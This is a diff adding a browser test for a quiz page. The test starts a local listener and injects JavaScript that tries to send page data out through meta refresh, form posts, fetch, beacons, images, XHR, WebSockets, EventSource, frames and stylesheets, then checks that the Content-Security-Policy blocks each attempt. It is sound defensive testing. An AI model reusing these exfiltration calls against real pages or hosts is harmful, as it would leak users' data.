@@ -322,3 +322,110 @@ def test_long_words_do_not_widen_the_page_at_375_px(quizc: Quizc, driver: Any, t
     finally:
         page.set_viewport(1280, 900)
 
+
+# --- nothing leaves the page, even when asked to --------------------------------------------------
+
+class Listener:
+    """An HTTP listener on 127.0.0.1 that records every request it gets; it stops by itself
+    after `limit` seconds at the latest."""
+
+    def __init__(self, limit: float = 60) -> None:
+        import http.server
+        import threading
+        self.requests: List[str] = []
+        listener = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def record(self) -> None:
+                listener.requests.append(f"{self.command} {self.path}")
+                self.send_response(204)
+                self.end_headers()
+            do_GET = do_POST = do_HEAD = do_OPTIONS = record
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.server.timeout = 1
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True)
+        self.deadline = threading.Timer(limit, self.stop)
+        self.deadline.daemon = True
+
+    def __enter__(self) -> "Listener":
+        self.thread.start()
+        self.deadline.start()
+        return self
+
+    def stop(self) -> None:
+        self.server.shutdown()
+
+    def __exit__(self, *args: Any) -> None:
+        self.deadline.cancel()
+        self.stop()
+        self.server.server_close()
+
+
+ESCAPES_JS = r"""
+const url = arguments[0];
+const refused = {};
+const attempt = (name, action) => { try { action(); refused[name] = false; } catch (error) { refused[name] = String(error.name || error); } };
+// HTML from a string (how quiz text would have to become markup): refused by Trusted Types.
+attempt('innerHTML meta refresh', () => { document.body.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0;url=${url}/meta">`); });
+attempt('innerHTML form', () => { const d = document.createElement('div'); d.innerHTML = `<form action="${url}/html-form" method="post"></form>`; });
+attempt('document.write', () => { document.write(`<img src="${url}/write">`); });
+// A form submission: refused by form-action 'none'.
+const form = document.createElement('form');
+form.action = `${url}/form`;
+form.method = 'post';
+const field = document.createElement('input');
+field.name = 'answers';
+field.value = location.hash;
+form.appendChild(field);
+document.body.appendChild(form);
+attempt('form.submit', () => form.submit());
+attempt('form.requestSubmit', () => form.requestSubmit());
+// A base element cannot redirect relative URLs: refused by base-uri 'none'.
+const base = document.createElement('base');
+base.href = `${url}/base/`;
+document.head.appendChild(base);
+const link = document.createElement('a');
+link.setAttribute('href', 'relative');
+const resolved = link.href;
+// Fetches of every kind: refused by default-src 'none'.
+attempt('fetch', () => { fetch(`${url}/fetch`).catch(() => {}); });
+attempt('beacon', () => navigator.sendBeacon(`${url}/beacon`, 'x'));
+attempt('image', () => { const i = new Image(); i.src = `${url}/image`; document.body.appendChild(i); });
+attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', `${url}/xhr`); x.onerror = () => {}; x.send(); });
+attempt('websocket', () => { new WebSocket(url.replace('http', 'ws') + '/ws'); });
+attempt('event source', () => { new EventSource(`${url}/events`); });
+attempt('iframe', () => { const f = document.createElement('iframe'); f.src = `${url}/frame`; document.body.appendChild(f); });
+attempt('stylesheet', () => { const s = document.createElement('link'); s.rel = 'stylesheet'; s.href = `${url}/style`; document.head.appendChild(s); });
+form.remove(); base.remove();
+return {refused, resolved};
+"""
+
+
+def test_the_page_reaches_no_listener(fresh_driver: Any, shipped: Built) -> None:
+    """With a listener on 127.0.0.1: using the page (every quiz, examples, a locale, a new
+    seed, witnesses) sends it nothing; and what a script injected into the page would try
+    (HTML from a string with a meta refresh or a form, a form post, a base element, fetch,
+    beacon, image, XHR, WebSocket, EventSource, frame, stylesheet) is refused by the
+    Content-Security-Policy and Trusted Types, so the listener still hears nothing. (A
+    navigation started by script, `location` or `window.open`, is not something a policy in
+    a meta element can forbid in Chromium: the page's own script never starts one, see
+    Tests/PreviewPage/no-navigation.test.js.)"""
+    import time
+    with Listener(limit=90) as listener:
+        page = Preview(fresh_driver, shipped.html)
+        page.show(("quiz", "animal"))
+        navigate_around(page, shipped)
+        outcome = fresh_driver.execute_script(ESCAPES_JS, listener.url)
+        time.sleep(1.5)
+        assert fresh_driver.execute_script("return location.protocol") == "file:", "the page navigated away"
+        heard = list(listener.requests)
+    refused = outcome["refused"]
+    for name in ["innerHTML meta refresh", "innerHTML form", "document.write"]:
+        assert refused[name] == "TypeError", f"{name}: not refused by Trusted Types ({refused[name]!r})"
+    assert outcome["resolved"].startswith("file:"), f"a base element moved relative URLs to {outcome['resolved']}"
+    assert not heard, f"the listener got requests: {heard} (attempts: {refused})"
